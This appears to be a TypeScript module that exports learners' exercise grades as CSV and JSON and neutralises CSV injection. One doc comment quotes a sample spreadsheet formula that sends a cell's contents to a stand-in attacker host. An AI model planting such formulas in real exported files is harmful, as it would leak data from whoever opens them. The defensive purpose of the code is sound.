import type { GradeRow } from './progress';

const COLUMNS = ['learner', 'lesson', 'exercise', 'passed', 'attempts', 'first_passed_at', 'last_attempt_at', 'hints_used', 'solution_shown', 'solution_shown_at', 'passed_after_solution'] as const;
const yesNo = (value: boolean): string => (value ? 'yes' : 'no');

const iso = (ms: number | null): string => (ms == null ? '' : new Date(ms).toISOString());

/**
 * A text a spreadsheet would run as a formula (OWASP "CSV injection"): a
 * class name or display name such as `=HYPERLINK("http://evil.example?"&A1,"x")`
 * is a working formula when the instructor opens the file. Such a field gets
 * a leading `'`, which spreadsheets read as "this is text".
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One CSV field: formula-like text neutralised, then RFC 4180 quoting (a field with a comma, quote or line break is quoted, quotes doubled). */
export function csvField(value: string): string {
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Grades as CSV, one row per learner and exercise, times in ISO 8601 (UTC). */
export function gradesToCsv(rows: GradeRow[]): string {
  return csvTable(
    COLUMNS,
    rows.map((r) => [
      r.learnerId,
      r.lessonId,
      r.exerciseId,
      yesNo(r.passed),
      String(r.attempts),
      iso(r.firstPassedAt),
      iso(r.lastAttemptAt),
      String(r.hintsUsed),
      yesNo(r.solutionShownAt !== null),
      iso(r.solutionShownAt),
      yesNo(r.passedAfterSolution),
    ]),
  );
}

/** A CSV file: the header, then one line per row, every field quoted as needed, CRLF line ends (RFC 4180). */
function csvTable(header: readonly string[], rows: string[][]): string {
  return `${[header.join(','), ...rows.map((fields) => fields.map(csvField).join(','))].join('\r\n')}\r\n`;
}

/** Grades as JSON: the same rows, times in ISO 8601. */
export function gradesToJson(rows: GradeRow[]): string {
  return `${JSON.stringify(
    rows.map((r) => ({
      learnerId: r.learnerId,
      lessonId: r.lessonId,
      exerciseId: r.exerciseId,
      attempts: r.attempts,
      passed: r.passed,
      firstPassedAt: iso(r.firstPassedAt) || null,
      lastAttemptAt: iso(r.lastAttemptAt) || null,
      hintsUsed: r.hintsUsed,
      solutionShown: r.solutionShownAt !== null,
      solutionShownAt: iso(r.solutionShownAt) || null,
      passedAfterSolution: r.passedAfterSolution,
    })),
    null,
    2,
  )}\n`;
}

/** One member's standing on one exercise of a class (every exercise of the class's lessons, tried or not). */
export interface ClassGradeRow {
  learnerId: string;
  displayName: string;
  lessonId: string;
  exerciseId: string;
  passed: boolean;
  attempts: number;
  firstPassedAt: number | null;
  lastAttemptAt: number | null;
  /** When the learner first looked at the exercise's solution; null if never. */
  solutionShownAt: number | null;
  /** How many of the exercise's hints the learner opened. */
  hintsUsed: number;
  /** The first pass came after the first look at the solution (it still counts as passed). */
  passedAfterSolution: boolean;
}

// New columns go at the end, so a spreadsheet built on an older export keeps its references.
const CLASS_COLUMNS = [
  'class',
  'name',
  'learner',
  'lesson',
  'exercise',
  'passed',
  'attempts',
  'first_passed_at',
  'last_attempt_at',
  'solution_shown_at',
  'hints_used',
  'solution_shown',
  'passed_after_solution',
] as const;

/** A class's grades as CSV: the class name and each learner's display name on every row, so the file stands alone. */
export function classGradesToCsv(className: string, rows: ClassGradeRow[]): string {
  return csvTable(
    CLASS_COLUMNS,
    rows.map((r) => [
      className,
      r.displayName,
      r.learnerId,
      r.lessonId,
      r.exerciseId,
      yesNo(r.passed),
      String(r.attempts),
      iso(r.firstPassedAt),
      iso(r.lastAttemptAt),
      iso(r.solutionShownAt),
      String(r.hintsUsed),
      yesNo(r.solutionShownAt !== null),
      yesNo(r.passedAfterSolution),
    ]),
  );
}

export function classGradesToJson(meta: { id: string; name: string; exportedAt: number }, rows: ClassGradeRow[]): string {
  return `${JSON.stringify(
    {
      class: { id: meta.id, name: meta.name },
      exportedAt: iso(meta.exportedAt),
      grades: rows.map((r) => ({
        ...r,
        firstPassedAt: iso(r.firstPassedAt) || null,
        lastAttemptAt: iso(r.lastAttemptAt) || null,
        solutionShownAt: iso(r.solutionShownAt) || null,
        solutionShown: r.solutionShownAt !== null,
      })),
    },
    null,
    2,
  )}\n`;
}
